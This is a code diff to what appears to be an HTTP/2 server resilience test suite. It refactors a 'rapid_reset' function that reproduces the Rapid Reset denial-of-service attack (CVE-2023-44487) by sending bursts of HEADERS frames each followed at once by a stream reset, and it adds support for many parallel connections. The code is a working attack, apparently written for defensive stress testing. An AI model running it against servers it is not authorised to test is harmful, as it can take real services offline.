@@ -89,22 +89,26 @@ async def reflected_files(address: str, calls: int = 100, size: int = 1 << 20, e
         await _within(asyncio.gather(*(_read_all(reflect(requests())) for _ in range(calls))))
 
 
-async def rapid_reset(address: str, calls: int = 60_000, at_once: int = 500, method: str = DECIDE) -> None:
+async def rapid_reset(
+    address: str, calls: int = 60_000, connections: int = 1, at_once: int = 500, method: str = DECIDE
+) -> None:
     """Calls that are cancelled as soon as they have begun (CVE-2023-44487)."""
-    async with connected(address) as connection:
-        reading = asyncio.create_task(connection.ended(calls))
-        block = http2.header_block(method)
-        for first in range(1, 2 * calls, 2 * at_once):
-            streams = range(first, first + 2 * at_once, 2)
-            await connection.send(
-                b"".join(
-                    http2.frame(http2.HEADERS, http2.END_HEADERS, stream, block) + http2.reset(stream)
-                    for stream in streams
-                )
-            )
-            if connection.closed:
-                break
-        reading.cancel()
+    block = http2.header_block(method)
+
+    async def begin_and_cancel() -> None:
+        async with connected(address) as connection:
+            reading = asyncio.create_task(connection.ended(calls))
+            for first in range(1, 2 * calls, 2 * at_once):
+                streams = range(first, first + 2 * at_once, 2)
+                await connection.send(b"".join(map(one, streams)))
+                if connection.closed:
+                    break
+            reading.cancel()
+
+    def one(stream: int) -> bytes:
+        return http2.frame(http2.HEADERS, http2.END_HEADERS, stream, block) + http2.reset(stream)
+
+    await asyncio.gather(*(begin_and_cancel() for _ in range(connections)))
 
 
 async def large_metadata(address: str, calls: int = 2_000, size: int = 1 << 20) -> None:
